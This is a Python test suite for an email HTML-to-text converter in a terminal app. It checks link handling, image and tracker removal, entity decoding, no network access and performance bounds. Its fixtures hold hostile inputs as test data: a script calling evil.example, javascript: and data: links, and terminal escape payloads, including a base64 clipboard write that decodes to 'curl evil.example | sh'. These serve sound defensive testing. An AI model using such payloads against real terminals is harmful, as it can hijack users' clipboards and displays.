"""html_to_text: offline conversion, real link targets, no remote images, no escape sequences."""

from __future__ import annotations

import re
import socket
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from deskterm.channels.email.html_text import html_to_text

# A linear path takes well under a second; a quadratic or exponential one takes minutes.
# The bound is generous because CI machines are shared: it catches a blow-up, it is no
# benchmark (bench/ measures speed).
HANG_GUARD = 20.0

CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """Any connection attempt fails the test (reliability.md item 4)."""
    attempts: list[object] = []

    def refuse(*args: object, **_kwargs: object) -> None:
        attempts.append(args)
        raise AssertionError(f"network access attempted: {args!r}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    return attempts


NEWSLETTER = """<html><head><title>Ignored title</title>
<style>p { color: red }</style><script>fetch("https://evil.example/x")</script></head>
<body>
<p>Hello &amp; welcome &lt;friend&gt; &eacute;t&eacute; &#8364;5&nbsp;off</p>
<p><a href="https://shop.example/track?id=1&amp;x=2">Track order</a></p>
<p><a href="javascript:alert(1)">Click me</a> <a href=" JaVa&#x09;ScRiPt:alert(2)">Me too</a>
<a href="vbscript:msgbox(1)">VB</a> <a href="data:text/html;base64,PHNjcmlwdD4=">Data</a></p>
<p><a href="https://x.example/">https://x.example/</a></p>
<img src="https://tracker.example/open.gif" width="1" height="1" alt="">
<img src="https://tracker.example/pixel.png" alt="pixel.png">
<img src="https://cdn.example/logo.png" alt="Shop logo">
<a href="https://shop.example/"><img src="https://cdn.example/b.png" alt="Visit the shop"></a>
</body></html>"""


def test_links_keep_their_real_target() -> None:
    text = html_to_text(NEWSLETTER)
    assert "[Track order](https://shop.example/track?id=1&x=2)" in text
    assert "<https://x.example/>" in text


def test_dangerous_links_keep_text_but_lose_target() -> None:
    text = html_to_text(NEWSLETTER)
    for label in ("Click me", "Me too", "VB", "Data"):
        assert label in text
    lowered = text.lower()
    assert "javascript" not in lowered and "vbscript" not in lowered and "data:" not in lowered
    assert "alert(" not in text


def test_images_dropped_unless_alt_is_meaningful(no_network: list[object]) -> None:
    text = html_to_text(NEWSLETTER)
    assert "tracker.example" not in text and "pixel.png" not in text
    assert "[image: Shop logo]" in text
    assert "[image: Visit the shop]" in text
    assert "cdn.example" not in text
    assert no_network == []


def test_scripts_styles_and_head_are_not_text() -> None:
    text = html_to_text(NEWSLETTER)
    assert "fetch(" not in text and "color: red" not in text and "Ignored title" not in text


def test_entities_decoded() -> None:
    text = html_to_text(NEWSLETTER)
    assert "Hello & welcome <friend> été €5 off" in text


@pytest.mark.parametrize(
    "payload",
    [
        "&#x1b;]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==&#x07;",  # OSC 52 clipboard write
        "&#27;]0;owned title&#7;",  # OSC 0 window title
        "&#x1b;]8;;https://evil.example&#x1b;\\link&#x1b;]8;;&#x1b;\\",  # OSC 8 hyperlink
        "&#x1b;[2J&#x1b;[31mred",  # CSI
        "&#x1b;P1$r&#x1b;\\",  # DCS
        "&#x1b;_apc&#x1b;\\",  # APC
        "\x1b[31mraw escape\x1b[0m",
        "\x9b31m raw C1 CSI \x9d0;title\x07",
        "&#x9b;31m C1 as entity",
        "&#0;&#x7f;&#8;NUL DEL BS",
    ],
)
def test_no_control_characters_survive(payload: str) -> None:
    text = html_to_text(f"<p>before {payload} after</p>")
    assert "\x1b" not in text
    assert not CONTROL.search(text), repr(text)
    assert "before" in text and "after" in text


def test_plain_text_is_not_markdown_escaped_or_wrapped() -> None:
    long_line = "word " * 200
    text = html_to_text(f"<p>1. First point</p><p>- a dash</p><p>{long_line}</p>")
    assert "1. First point" in text and "\\" not in text
    assert long_line.strip() in text.splitlines()


def test_oversized_input_is_truncated_and_says_so() -> None:
    text = html_to_text("<p>" + "a" * 5000 + "</p>", max_chars=1000)
    assert "[HTML truncated: 4007 characters not shown]" in text


def test_deep_nesting_stays_linear() -> None:
    started = time.monotonic()
    html_to_text("<ul><li>" * 20_000 + "x<br>" * 20_000)
    html_to_text("<blockquote>" * 20_000 + "x<br>" * 20_000)
    assert time.monotonic() - started < HANG_GUARD


def test_garbage_html_does_not_raise() -> None:
    for html in ["", "<", "<a href=", "</a></a></ul></blockquote>", "<img>", "&#xFFFFFFFF;", "<a>"]:
        assert isinstance(html_to_text(html), str)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "<a href='javascript:x'>",
                "<a href='https://a.example'>",
                "</a>",
                "<img alt='hi'>",
                "<ul>",
                "</ul>",
                "<li>",
                "<blockquote>",
                "<pre>",
                "</pre>",
                "&#x1b;",
                "&#x9b;",
                "<script>",
                "</script>",
                "<style>",
                "text",
                "\x1b",
                "\x00",
                "&amp;",
                "<br>",
                "<p>",
            ]
        )
        | st.text(max_size=20),
        max_size=60,
    )
)
def test_random_html_never_raises_or_leaks_controls(pieces: list[str]) -> None:
    text = html_to_text("".join(pieces))
    assert not CONTROL.search(text)
    assert "](javascript" not in text.lower()


def test_converter_failure_falls_back_to_crude_text(monkeypatch: pytest.MonkeyPatch) -> None:
    from deskterm.channels.email import html_text

    def explode(*_args: object) -> str:
        raise AssertionError("html2text bug")

    monkeypatch.setattr(html_text._Converter, "handle", explode)
    text = html_to_text("<style>x{}</style><p>Hi &amp; bye&#x1b;</p><script>evil()</script>")
    assert text == "Hi & bye"
